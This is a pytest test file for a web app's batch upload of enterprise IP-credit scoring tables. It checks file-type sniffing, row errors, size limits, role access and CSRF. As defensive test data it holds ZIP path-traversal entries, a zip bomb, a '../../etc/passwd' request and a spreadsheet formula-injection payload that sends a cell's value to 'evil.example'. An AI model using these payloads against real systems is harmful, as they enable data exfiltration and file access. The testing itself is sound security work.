"""批量筛查 upload: facts tables (CSV / XLSX / Parquet) and record-table ZIPs scored with
`ipcredit.batch`; results equal the batch engine's; refusals name what is wrong; roles."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest
from fastapi.testclient import TestClient
from web_auth_support import csrf_of, login
from web_batch_support import csv_bytes, facts_population, parquet_bytes, records_zip, xlsx_bytes, zip_bytes

from ipcredit.web.app import create_app


@pytest.fixture(scope="module")
def population():
    return facts_population(6)


def upload(c: TestClient, name: str, data: bytes, **form):
    token = csrf_of(c.get("/batch").text)
    return c.post("/batch", data={"evaluation_date": "", "profile": "points", **form, "csrf_token": token},
                  files={"table": (name, data, "application/octet-stream")})


def results_csv(c: TestClient, location: str) -> list[dict]:
    r = c.get(location + "/results.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text)))


def expected_totals(population, profile=None) -> dict[str, str]:
    from ipcredit.batch.run import score_facts_tables

    out = score_facts_tables(population[0], population[1], profile=profile)
    return {r["credit_code"]: str(r["total"]) for r in out.results.to_pylist()}


def _norm(totals: dict[str, str]) -> dict[str, float]:
    return {k: float(v) for k, v in totals.items()}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_facts_table_is_scored_like_the_batch_engine(app_settings, population, fmt):
    facts, _ = population
    data = {"csv": csv_bytes, "xlsx": xlsx_bytes, "parquet": parquet_bytes}[fmt](facts)
    c = login(app_settings, "evaluator")
    r = upload(c, f"facts.{fmt}", data)
    assert r.status_code == 303, r.text
    page = c.get(r.headers["location"])
    assert 'data-testid="scored">6<' in page.text and "等级分布" in page.text and "总分分布" in page.text
    assert "<svg" in page.text and "企业数（家）" in page.text
    rows = results_csv(c, r.headers["location"])
    want = expected_totals((facts, None))
    assert _norm({x["credit_code"]: x["total"] for x in rows}) == _norm(want)


def test_type_is_read_from_the_content_not_the_name(app_settings, population):
    c = login(app_settings, "lead")
    r = upload(c, "looks-like.parquet", csv_bytes(population[0]))      # a CSV under a Parquet name
    assert r.status_code == 303
    r = upload(c, "facts.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n\x00\x00")
    assert r.status_code == 422 and "无法识别文件类型" in r.text


def test_bad_rows_are_listed_per_enterprise_and_the_rest_scored(app_settings, population):
    facts = population[0].to_pylist()
    facts[2]["ip_specialists"] = -3
    import pyarrow as pa

    c = login(app_settings, "lead")
    r = upload(c, "bad-rows.csv", csv_bytes(pa.Table.from_pylist(facts, schema=population[0].schema)))
    assert r.status_code == 303
    page = c.get(r.headers["location"]).text
    assert 'data-testid="scored">5<' in page and "1 家企业未评价" in page
    row = re.search(r'<table class="table" id="problems">.*?</table>', page, re.S).group(0)
    assert facts[2]["credit_code"] in row and "<td>bad-rows.csv</td>" in row and "ip_specialists" in row
    assert "应为非负整数" in row and '<td class="num">4</td>' in row
    assert "/tmp" not in page


def test_records_zip_is_scored(app_settings, tmp_path):
    c = login(app_settings, "supervisor")
    r = upload(c, "records.zip", records_zip(25, tmp_path), evaluation_date="2026-03-15")
    assert r.status_code == 303, r.text
    page = c.get(r.headers["location"]).text
    scored = int(re.search(r'data-testid="scored">(\d+)<', page).group(1))
    unscored = int(re.search(r"(\d+) 家企业未评价", page).group(1))
    assert scored + unscored == 25 and scored > 0 and "原始记录表" in page


def test_records_zip_needs_an_evaluation_date(app_settings, tmp_path):
    r = upload(login(app_settings, "lead"), "records.zip", records_zip(3, tmp_path))
    assert r.status_code == 422 and "须填写评价日" in r.text


@pytest.mark.parametrize("files, message", [
    ({"../enterprises.csv": b"credit_code,name\n"}, "不安全"),
    ({"/etc/enterprises.csv": b"credit_code,name\n"}, "不安全"),
    ({"inner.zip": b"PK\x03\x04rest"}, "不得再含压缩文件"),
    ({"enterprises.csv": b"PK\x03\x04 a zip under a csv name"}, "不得再含压缩文件"),
    ({"notes.csv": b"a,b\n1,2\n"}, "不是已知的表"),
    ({"patents.csv": b"a,b\n1,2\n"}, "没有 enterprises"),
])
def test_unsafe_or_unusable_zips_are_refused(app_settings, files, message):
    r = upload(login(app_settings, "lead"), "upload.zip", zip_bytes(files), evaluation_date="2026-03-15")
    assert r.status_code == 422 and message in r.text, r.text[-2000:]


def test_zip_bomb_is_refused(app_settings):
    small = dataclasses.replace(app_settings, batch_max_unzipped=1_000_000)
    c = login(small, "lead")
    bomb = zip_bytes({"enterprises.csv": b"credit_code,name\n" + b"0" * 5_000_000})
    assert len(bomb) < 50_000
    r = upload(c, "bomb.zip", bomb, evaluation_date="2026-03-15")
    assert r.status_code == 422 and "解压后超过上限" in r.text


def test_size_and_row_limits(app_settings, population):
    few_rows = dataclasses.replace(app_settings, batch_max_rows=5)
    r = upload(login(few_rows, "lead"), "facts.csv", csv_bytes(population[0]))
    assert r.status_code == 422 and "超过网页批量筛查上限 5 家" in r.text and "ipcredit batch score" in r.text
    small = dataclasses.replace(app_settings, batch_max_bytes=1000)
    r = upload(login(small, "lead"), "facts.csv", csv_bytes(population[0]))
    assert r.status_code == 413 and "ipcredit batch score" in r.text


def test_missing_required_column_is_named(app_settings, population):
    r = upload(login(app_settings, "lead"), "企业名单.csv", csv_bytes(population[0].drop(["name"])))
    assert r.status_code == 422 and "企业名单.csv：缺少必填列" in r.text and "/tmp" not in r.text


def test_results_are_private_to_the_uploader(app_settings, population):
    c = login(app_settings, "lead")
    location = upload(c, "facts.csv", csv_bytes(population[0])).headers["location"]
    other = login(app_settings, "admin")
    assert other.get(location).status_code == 404 and other.get(location + "/results.csv").status_code == 404
    assert c.get(location + "/../../etc/passwd").status_code == 404
    assert c.get("/batch/short").status_code == 404 and c.get(location + "/run.json").status_code == 404


@pytest.mark.parametrize("username", ["reviewer1", "enterprise1"])
def test_other_roles_are_refused(app_settings, username):
    c = login(app_settings, username)
    assert c.get("/batch").status_code == 403
    token = csrf_of(c.get("/").text)
    r = c.post("/batch", data={"csrf_token": token}, files={"table": ("f.csv", b"credit_code,name\n", "text/csv")})
    assert r.status_code == 403


def test_anonymous_and_forged_requests(app_settings, population):
    anon = TestClient(create_app(app_settings), follow_redirects=False)
    assert anon.get("/batch").status_code == 303
    c = login(app_settings, "lead")
    r = c.post("/batch", data={"csrf_token": "forged"}, files={"table": ("f.csv", csv_bytes(population[0]), "text/csv")})
    assert r.status_code == 403


def test_paging(app_settings):
    big = facts_population(60)[0]
    c = login(app_settings, "lead")
    location = upload(c, "facts.csv", csv_bytes(big)).headers["location"]
    first, second = c.get(location).text, c.get(location + "?page=2").text
    assert "第 1 / 2 页" in first and "第 2 / 2 页" in second
    assert first.count("<tr><td>9") == 50 and second.count("<tr><td>9") == 10


def test_one_batch_at_a_time(app_settings, population):
    import threading

    from ipcredit.web.batch_upload import Busy, run_batch

    options = {"evaluation_date": None, "base_date": None, "profile": "points"}
    slot = threading.Semaphore(1)
    slot.acquire()
    with pytest.raises(Busy):
        run_batch(csv_bytes(population[0]), "f.csv", options, app_settings, 1, slot)
    slot.release()
    assert run_batch(csv_bytes(population[0]), "f.csv", options, app_settings, 1, slot)
    assert slot.acquire(blocking=False)      # released after the run


def test_a_table_duckdb_cannot_read_is_a_message_not_a_crash(app_settings, population, monkeypatch):
    import duckdb

    import ipcredit.batch.run as batch_run

    def unreadable(path, *args, **kwargs):
        raise duckdb.InvalidInputException(f"Error when sniffing file \"{path}\"\nmore detail")

    monkeypatch.setattr(batch_run, "score_facts_tables", unreadable)
    r = upload(login(app_settings, "lead"), "名单.csv", csv_bytes(population[0]))
    assert r.status_code == 422 and "表无法读取：Error when sniffing file" in r.text
    assert "名单.csv" in r.text and "/tmp" not in r.text and "more detail" not in r.text


def test_downloaded_csvs_keep_formulas_as_text(app_settings, population):
    """A name or a cell a spreadsheet would run as a formula is written with a leading
    apostrophe in results.csv and problems.csv (CWE-1236); Parquet keeps the value as given."""
    import pyarrow as pa

    facts = population[0].to_pylist()
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    facts[0]["name"] = formula
    facts[1]["ip_specialists"] = "-1+2"     # a bad cell, reported in problems.csv
    table = pa.Table.from_pylist([{k: (str(v) if v is not None else None) for k, v in f.items()} for f in facts])
    c = login(app_settings, "lead")
    r = upload(c, "formula.csv", csv_bytes(table))
    assert r.status_code == 303, r.text
    rows = {x["credit_code"]: x for x in results_csv(c, r.headers["location"])}
    assert rows[facts[0]["credit_code"]]["name"] == "'" + formula
    problems = c.get(r.headers["location"] + "/problems.csv").text
    assert facts[1]["credit_code"] in problems and "=HYPERLINK" not in problems
    assert not any(line.startswith(("=", "+", "-", "@")) for line in problems.splitlines())
